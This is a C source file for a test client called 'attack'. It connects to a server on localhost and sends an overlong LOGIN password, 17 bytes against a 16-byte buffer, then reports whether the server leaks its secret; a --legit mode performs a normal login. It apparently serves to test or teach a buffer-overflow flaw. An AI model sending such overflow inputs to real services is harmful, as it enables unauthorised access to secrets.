/*
 * attack: a client of the server.
 *
 *	attack PORT            sends a password that is too long and shows whether
 *	                       the server gives its secret away: "FALLEN: secret=…"
 *	                       (exit status 0) or "HELD: …" (1)
 *	attack --legit PORT    logs in as one should: "SERVED: …" (0) or
 *	                       "REFUSED: …" (1)
 *
 * The exit status is 2 when no answer could be had.
 */
#include <arpa/inet.h>
#include <netinet/in.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/time.h>
#include <unistd.h>

/* 16 bytes fill the server's buffer, the 17th lands in what lies behind it. */
static const char attack_line[] = "LOGIN mallory AAAAAAAAAAAAAAAAA\n";
static const char legit_line[] = "LOGIN alice wonderland\n";

static void give_up(const char *what)
{
	perror(what);
	exit(2);
}

static int dial(const char *port)
{
	struct sockaddr_in addr = { .sin_family = AF_INET, .sin_port = htons((in_port_t)atoi(port)) };
	struct timeval patience = { .tv_sec = 10 };
	int fd = socket(AF_INET, SOCK_STREAM, 0);

	addr.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
	if (fd < 0 || setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &patience, sizeof patience) ||
	    connect(fd, (struct sockaddr *)&addr, sizeof addr))
		give_up("attack: connect");
	return fd;
}

/* Sends one request and reads the reply, a line. */
static void exchange(int fd, const char *line, char *reply, size_t size)
{
	size_t have = 0;
	ssize_t n;

	if (send(fd, line, strlen(line), MSG_NOSIGNAL) != (ssize_t)strlen(line))
		give_up("attack: send");
	while (have < size - 1 && !memchr(reply, '\n', have)) {
		n = recv(fd, reply + have, size - 1 - have, 0);
		if (n < 0)
			give_up("attack: receive");
		if (n == 0)
			break;
		have += (size_t)n;
	}
	reply[have] = '\0';
	reply[strcspn(reply, "\n")] = '\0';
}

int main(int argc, char **argv)
{
	int legit = argc == 3 && !strcmp(argv[1], "--legit");
	char reply[256], *secret;
	int fd;

	if (argc != 2 + legit) {
		fprintf(stderr, "usage: attack [--legit] PORT\n");
		return 2;
	}
	fd = dial(argv[1 + legit]);
	exchange(fd, legit ? legit_line : attack_line, reply, sizeof reply);
	close(fd);
	if (!*reply) {
		fprintf(stderr, "attack: the server closed the connection without a reply\n");
		return 2;
	}
	secret = strstr(reply, "secret=");
	if (legit)
		printf("%s: %s\n", secret ? "SERVED" : "REFUSED", reply);
	else if (secret)
		printf("FALLEN: %s\n", secret);
	else
		printf("HELD: %s\n", reply);
	return secret ? 0 : 1;
}
